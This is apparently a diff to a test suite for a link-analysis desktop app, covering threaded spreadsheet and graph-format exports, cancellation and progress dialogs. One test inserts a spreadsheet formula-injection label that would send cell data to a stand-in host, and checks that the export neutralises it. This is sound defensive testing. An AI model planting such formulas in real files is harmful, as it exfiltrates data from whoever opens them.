@@ -6,17 +6,21 @@ from __future__ import annotations
 
 import csv
 import io
+import threading
+import time
+from pathlib import Path
 
 import networkx as nx
 import openpyxl
 import pytest
 from lxml import etree
 from pypdf import PdfReader
-from PySide6.QtCore import QMimeData, QPoint, QPointF, Qt, QUrl
+from PySide6.QtCore import QMimeData, QPoint, QPointF, Qt, QTimer, QUrl
 from PySide6.QtGui import QDropEvent, QGuiApplication, QImage
-from PySide6.QtWidgets import QFileDialog, QMessageBox
+from PySide6.QtWidgets import QFileDialog, QMessageBox, QPushButton
 
 from workbench.analysis import Field, Target
+from workbench.model import Chart, Entity, Link
 from workbench.ui.clipboard import PDF_MIME, PNG_MIME, SVG_MIME
 from workbench.ui.heatmatrix_dock import HeatMatrixDock
 from workbench.ui.histogram_dock import HistogramDock
@@ -24,6 +28,7 @@ from workbench.ui.histogram_dock import HistogramDock
 from .conftest import IDS, SAMPLE
 
 SVG_NS = "{http://www.w3.org/2000/svg}"
+TIMEOUT = 60_000
 
 
 def clipboard_pictures() -> tuple[QImage, bytes, bytes]:
@@ -119,10 +124,29 @@ def test_histogram_and_heat_matrix_copy_vectors_too(qtbot, window):
 
 
 # ----- spreadsheets --------------------------------------------------------------------------
-def test_spreadsheet_of_the_chart_and_of_the_selection(window, tmp_path):
+def exported(qtbot, window, start) -> list[Path]:
+    """Start an export (it runs on a worker) and wait for the files it wrote."""
+    threads: list[threading.Thread] = []
+    record = lambda _paths: threads.append(threading.current_thread())  # noqa: E731
+    window.data_export.written.connect(record)
+    with qtbot.waitSignal(window.data_export.written, timeout=TIMEOUT) as done:
+        assert start()
+    window.data_export.written.disconnect(record)
+    assert threads == [threading.main_thread()]  # the result is applied on the GUI thread
+    assert window.data_export.job is None and window.data_export.progress is None
+    return [Path(p) for p in done.args[0]]
+
+
+def leftovers(folder: Path) -> list[str]:
+    """Part and temporary files an export might leave beside its target."""
+    return [p.name for p in folder.iterdir() if p.name.startswith(".")]
+
+
+def test_spreadsheet_of_the_chart_and_of_the_selection(qtbot, window, tmp_path):
     window.open_chart(SAMPLE)
     window.chart.entity(IDS["atar"]).label = "=HYPERLINK(\"http://x/?\"&A1)"
-    assert window.data_export.export_spreadsheet(tmp_path / "all.xlsx")
+    assert exported(qtbot, window, lambda: window.data_export.export_spreadsheet(
+        tmp_path / "all.xlsx")) == [tmp_path / "all.xlsx"]
     book = openpyxl.load_workbook(tmp_path / "all.xlsx")
     assert book.sheetnames == ["Entities", "Links"]
     assert book["Entities"].max_row == 1 + 132 and book["Links"].max_row == 1 + 262
@@ -131,8 +155,8 @@ def test_spreadsheet_of_the_chart_and_of_the_selection(window, tmp_path):
     assert "'=HYPERLINK(\"http://x/?\"&A1)" in labels  # neutralised, never a formula
 
     window.selection.set(links=[IDS["atar-baghdadi"]])
-    written = window.data_export.export_spreadsheet(tmp_path / "picked.csv",
-                                                    selected_only=True)
+    written = exported(qtbot, window, lambda: window.data_export.export_spreadsheet(
+        tmp_path / "picked.csv", selected_only=True))
     assert [p.name for p in written] == ["picked-entities.csv", "picked-links.csv"]
     with open(written[0], encoding="utf-8-sig") as handle:
         entities = list(csv.DictReader(handle))
@@ -145,7 +169,7 @@ def test_spreadsheet_of_the_chart_and_of_the_selection(window, tmp_path):
         [("'=HYPERLINK(\"http://x/?\"&A1)", "Abu Bakr al-Baghdadi")])
 
 
-def test_spreadsheet_through_the_menu_and_the_file_dialog(window, tmp_path):
+def test_spreadsheet_through_the_menu_and_the_file_dialog(qtbot, window, tmp_path):
     window.open_chart(SAMPLE)
     titles = menu_texts(window.export_menu)
     assert titles[2:] == ["Spreadsheet (XLSX, CSV)...", "Selected Items as Spreadsheet...",
@@ -155,7 +179,8 @@ def test_spreadsheet_through_the_menu_and_the_file_dialog(window, tmp_path):
     dialog = window.data_export.file_dialog
     assert isinstance(dialog, QFileDialog) and dialog.isVisible()
     assert dialog.selectedFiles()[0].endswith("nov13-network.xlsx")
-    dialog.fileSelected.emit(str(tmp_path / "typed-without-extension"))
+    with qtbot.waitSignal(window.data_export.written, timeout=TIMEOUT):
+        dialog.fileSelected.emit(str(tmp_path / "typed-without-extension"))
     assert openpyxl.load_workbook(tmp_path / "typed-without-extension.xlsx")["Links"].max_row \
         == 263
 
@@ -168,10 +193,11 @@ def test_a_failed_spreadsheet_says_why(window, tmp_path):
 
 # ----- interchange ---------------------------------------------------------------------------
 @pytest.mark.parametrize("suffix", [".graphml", ".gexf", ".anx"])
-def test_export_for_other_tools_and_open_it_back(window, tmp_path, suffix):
+def test_export_for_other_tools_and_open_it_back(qtbot, window, tmp_path, suffix):
     window.open_chart(SAMPLE)
     path = tmp_path / f"sent{suffix}"
-    assert window.data_export.export_interchange(path)
+    assert exported(qtbot, window, lambda: window.data_export.export_interchange(path)) == [path]
+    assert not leftovers(tmp_path)
     if suffix == ".graphml":
         graph = nx.read_graphml(path)
         assert graph.number_of_nodes() == 132 and graph.number_of_edges() == 262
@@ -259,3 +285,133 @@ def test_warnings_of_a_foreign_file_are_shown(window, tmp_path):
     box = window.files.message
     assert box.isVisible() and box.icon() == QMessageBox.Icon.Information
     assert "hyper.graphml opened" in box.text() and "hyperedge" in box.text()
+
+
+# ----- off the GUI thread --------------------------------------------------------------------
+def big_chart(entities: int = 4000) -> Chart:
+    """A chart big enough that its exports take a noticeable time (laid out in a grid)."""
+    chart = Chart("big export")
+    chart.add_entities(Entity(f"e{i}", "Person", f"Person {i}", x=(i % 80) * 150.0,
+                              y=(i // 80) * 150.0) for i in range(entities))
+    chart.add_links(Link(f"l{j}", f"e{j % entities}", f"e{(j * 7 + 1) % entities}", "Associate")
+                    for j in range(2 * entities))
+    return chart
+
+
+@pytest.fixture
+def big_window(qtbot, window):
+    window.replace_chart(big_chart(), None)
+    qtbot.wait(10)
+    return window
+
+
+@pytest.mark.parametrize("name", ["big.xlsx", "big.graphml"])
+def test_a_big_export_keeps_the_window_responsive(qtbot, big_window, tmp_path, name):
+    """A timer on the GUI thread keeps firing while the worker writes; the analyst can edit
+    the chart meanwhile and the file holds the chart as it was when the export started."""
+    w, target = big_window, tmp_path / name
+    ticks: list[float] = []
+    timer = QTimer(interval=20)
+    timer.timeout.connect(lambda: ticks.append(time.perf_counter()))
+    timer.start()
+    started = time.perf_counter()
+    with qtbot.waitSignal(w.data_export.written, timeout=TIMEOUT):
+        if name.endswith(".xlsx"):
+            assert w.data_export.export_spreadsheet(target) == [target]
+        else:
+            assert w.data_export.export_interchange(target)
+        held = time.perf_counter() - started
+        assert not target.exists()  # still being written
+        w.chart.entity("e0").label = "changed after the export started"
+    took = time.perf_counter() - started
+    timer.stop()
+    after = [t for t in ticks if t > started + held]  # while the worker was writing
+    gaps = [b - a for a, b in zip([started + held, *after], after, strict=False)]
+    print(f"{name}: GUI thread held {held:.2f} s, written after {took:.2f} s, "
+          f"{len(after)} ticks while writing, longest gap {max(gaps):.2f} s")
+    assert held < 1.0 and len(after) >= 3
+    assert max(gaps) < 0.5  # no freeze while writing (the GIL is shared, not held)
+    if name.endswith(".xlsx"):
+        rows = list(openpyxl.load_workbook(target)["Entities"].iter_rows(values_only=True))
+        assert len(rows) == 1 + 4000
+        labels = {row[rows[0].index("Label")] for row in rows[1:]}
+        assert "Person 0" in labels and "changed after the export started" not in labels
+    else:
+        graph = nx.read_graphml(target)
+        assert graph.number_of_nodes() == 4000 and graph.number_of_edges() == 8000
+    assert not leftovers(tmp_path)
+
+
+def test_cancel_writes_nothing_and_keeps_the_old_file(qtbot, big_window, tmp_path):
+    w, target = big_window, tmp_path / "kept.xlsx"
+    target.write_bytes(b"the analyst's earlier export")
+    failed: list[str] = []
+    w.data_export.failed.connect(failed.append)
+    with qtbot.assertNotEmitted(w.data_export.written, wait=300):
+        assert w.data_export.export_spreadsheet(target)
+        job = w.data_export.job
+        progress = w.data_export.progress
+        assert progress is not None and progress.labelText() == "Writing kept.xlsx..."
+        progress.findChild(QPushButton).click()  # the progress dialog's Cancel button
+        assert w.data_export.job is None and w.data_export.progress is None
+        assert "cancelled" in w.statusBar().currentMessage()
+        qtbot.waitUntil(job.finished.is_set, timeout=TIMEOUT)
+    assert target.read_bytes() == b"the analyst's earlier export"
+    assert not leftovers(tmp_path) and not failed
+
+
+def test_progress_shows_for_a_long_export(qtbot, big_window, tmp_path):
+    w = big_window
+    w.data_export.PROGRESS_AFTER_MS = 50  # else only exports over 0.4 s show it
+    with qtbot.waitSignal(w.data_export.written, timeout=TIMEOUT):
+        assert w.data_export.export_spreadsheet(tmp_path / "slow.xlsx")
+        progress = w.data_export.progress
+        qtbot.waitUntil(progress.isVisible, timeout=5000)
+        assert progress.maximum() == 0 and not progress.isModal()  # busy, window usable
+        assert w.statusBar().currentMessage() == "Writing slow.xlsx..."
+        progress.grab().save("/tmp/export-progress.png")
+    assert not progress.isVisible()
+    assert w.statusBar().currentMessage() == f"Exported {tmp_path / 'slow.xlsx'}"
+    assert openpyxl.load_workbook(tmp_path / "slow.xlsx")["Links"].max_row == 1 + 8000
+
+
+def test_csv_writes_both_files_or_none(qtbot, big_window, tmp_path):
+    written = exported(qtbot, big_window, lambda: big_window.data_export.export_spreadsheet(
+        tmp_path / "both.csv"))
+    assert written == [tmp_path / "both-entities.csv", tmp_path / "both-links.csv"]
+    with open(written[1], encoding="utf-8-sig") as handle:
+        assert len(list(csv.DictReader(handle))) == 8000
+    assert not leftovers(tmp_path)
+
+
+def test_a_target_that_cannot_be_replaced_says_why(qtbot, window, tmp_path):
+    window.open_chart(SAMPLE)
+    (tmp_path / "folder.graphml").mkdir()  # the part is written, the swap cannot happen
+    with qtbot.waitSignal(window.data_export.failed, timeout=TIMEOUT) as failed:
+        assert window.data_export.export_interchange(tmp_path / "folder.graphml")
+    assert failed.args[0].startswith("Could not write folder.graphml")
+    assert window.files.message.isVisible() and "folder.graphml" in window.files.message.text()
+    assert (tmp_path / "folder.graphml").is_dir() and not leftovers(tmp_path)
+    assert window.data_export.job is None  # a next export can start
+    assert exported(qtbot, window, lambda: window.data_export.export_interchange(
+        tmp_path / "next.gexf"))
+
+
+def test_one_export_at_a_time(qtbot, big_window, tmp_path):
+    w = big_window
+    with qtbot.waitSignal(w.data_export.written, timeout=TIMEOUT):
+        assert w.data_export.export_spreadsheet(tmp_path / "first.xlsx")
+        assert not w.data_export.export_interchange(tmp_path / "second.gexf")
+        assert "wait for the export of first.xlsx" in w.files.message.text()
+    assert not (tmp_path / "second.gexf").exists()
+
+
+def test_closing_the_window_cancels_the_export(qtbot, big_window, tmp_path):
+    w, target = big_window, tmp_path / "closing.xlsx"
+    with qtbot.assertNotEmitted(w.data_export.written, wait=300):
+        assert w.data_export.export_spreadsheet(target)
+        job = w.data_export.job
+        assert w.close()
+        assert job.finished.is_set()  # the window waited for its worker
+    assert not target.exists() and not leftovers(tmp_path)
+
